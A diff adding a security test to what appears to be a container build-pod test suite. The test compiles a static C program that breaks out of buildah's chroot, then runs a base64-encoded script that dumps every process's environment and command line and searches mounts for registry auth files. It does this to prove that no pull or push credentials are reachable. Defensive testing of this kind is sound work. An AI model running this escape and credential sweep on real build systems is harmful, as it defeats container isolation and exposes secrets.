@@ -273,6 +273,80 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
     expect(readFileSync(path.join(rootfs, 'etc/built'), 'utf8')).toBe('built\n');
   });
 
+  /**
+   * A RUN step that leaves buildah's chroot the two ways a program in it can, and searches what it
+   * reaches: a static program (no libc, raw system calls) chroots into a subdirectory while its
+   * working directory stays outside, climbs to the container's root and chroots there (RUN keeps
+   * CAP_SYS_CHROOT in its user namespace), then runs a shell script that reads every process's
+   * environment and command line, every `/proc/<pid>/root` it may, and every file under every
+   * mount of the container (its mountinfo, but proc, sys and dev mounts) holding an auth file's `"auths"`
+   * key (spelt at run time, so the Containerfile itself does not match). Its report is written into
+   * the image, which the test pulls. The program and the script arrive base64-encoded.
+   */
+  const ESCAPE_C = [
+    'static long sys3(long n, long a, long b, long c) {',
+    '  long r;',
+    '  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");',
+    '  return r;',
+    '}',
+    'void _start(void) {',
+    '  static char *argv[] = {"busybox", "sh", "-s", 0};',
+    '  static char *envp[] = {"PATH=/bin:/usr/bin", 0};',
+    '  sys3(83, (long)".esc", 0700, 0);',
+    '  sys3(161, (long)".esc", 0, 0);',
+    '  for (int i = 0; i < 64; i++) sys3(80, (long)"..", 0, 0);',
+    '  sys3(161, (long)".", 0, 0);',
+    '  sys3(59, (long)"/bin/busybox", (long)argv, (long)envp);',
+    '  sys3(60, 127, 0, 0);',
+    '}',
+    '',
+  ].join('\n');
+  const ESCAPE_SCRIPT = [
+    'A=aut; b=busybox',
+    'if $b cat /var/run/on-cluster-build/containerfile/Containerfile >/dev/null 2>&1; then echo reached-container-root; fi',
+    'found() { for f in $($b find "$@" -xdev -type f -exec $b grep -l "\\"${A}hs\\"" {} + 2>/dev/null); do case $f in *escape-report*) ;; *) echo "== $f: $($b head -c 2000 $f)";; esac; done; }',
+    'for p in /proc/[0-9]*; do',
+    '  echo "== $p environ: $($b tr "\\000" " " < $p/environ 2>/dev/null)"',
+    '  echo "== $p cmdline: $($b tr "\\000" " " < $p/cmdline 2>/dev/null | $b head -c 200)"',
+    '  if $b ls $p/root/ >/dev/null 2>&1; then echo "== searched $p/root/var/run $p/root/run"; found $p/root/var/run/ $p/root/run/; fi',
+    'done',
+    "for m in $($b awk '{print $5}' /proc/self/mountinfo | $b grep -Ev '(^|/)(proc|sys|dev)(/|$)' | $b sort -u); do",
+    '  case $m in /) continue;; esac',
+    '  found $m',
+    '  echo "== searched $m"',
+    'done',
+    '',
+  ].join('\n');
+  let ESCAPE = '';
+  /** The RUN step; the program is compiled here (x86-64, gcc) when first asked for. */
+  function escapeStep(): string {
+    if (ESCAPE) return ESCAPE;
+    const dir = mkdtempSync(path.join(work, 'escape-'));
+    writeFileSync(path.join(dir, 'esc.c'), ESCAPE_C);
+    run('gcc', ['-static', '-nostdlib', '-Os', '-fno-stack-protector', '-fno-asynchronous-unwind-tables', '-Wl,--build-id=none', '-s', '-o', path.join(dir, 'esc'), path.join(dir, 'esc.c')]);
+    const prog = readFileSync(path.join(dir, 'esc')).toString('base64');
+    const script = Buffer.from(ESCAPE_SCRIPT).toString('base64');
+    ESCAPE = `printf '%s' '${prog}' | busybox base64 -d > /esc && busybox chmod 0755 /esc && printf '%s' '${script}' | busybox base64 -d > /escape.sh && /esc < /escape.sh > /escape-report; busybox rm -f /esc /escape.sh`;
+    return ESCAPE;
+  }
+
+  it('a RUN step that leaves the chroot finds no credential of the pull or push Secret: the build container has none', async () => {
+    const i = input(['FROM configs AS final', `RUN ${escapeStep()}`, ''].join('\n'));
+    const r = await build(i);
+    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
+    const { ref } = expectPushed(i, r.terminationMessage);
+    const report = readFileSync(path.join(unpackPushed(ref), 'escape-report'), 'utf8');
+    // It did get out: it read the build container's own files and searched its volumes.
+    expect(report).toMatch(/^reached-container-root$/m);
+    expect(report).toMatch(/^== searched \/tmp$/m);
+    if (process.env.ESCAPE_REPORT) writeFileSync(process.env.ESCAPE_REPORT, report);
+    // And found nothing of either Secret: no auth file, no password, no auth value.
+    const secrets = [reg.password!, auth(reg), 'base.json', 'push.json', '"auths"'];
+    for (const s of secrets) expect({ s, found: report.includes(s) }).toEqual({ s, found: false });
+    // The pulled images it could read (read-only: it cannot alter what the push container pushes).
+    expect(report).toMatch(/^== searched \/var\/lib\/on-cluster-build\/base$/m);
+  });
+
   // RHEL entitlements (insights-operator's `etc-pki-entitlement`: entitlement.pem, entitlement-key.pem).
   const CERT = '-----BEGIN CERTIFICATE-----\nENTITLEMENT-CERT-MARKER-5f1c\n-----END CERTIFICATE-----\n';
   const KEY = '-----BEGIN PRIVATE KEY-----\nENTITLEMENT-KEY-MARKER-9a3e\n-----END PRIVATE KEY-----\n';
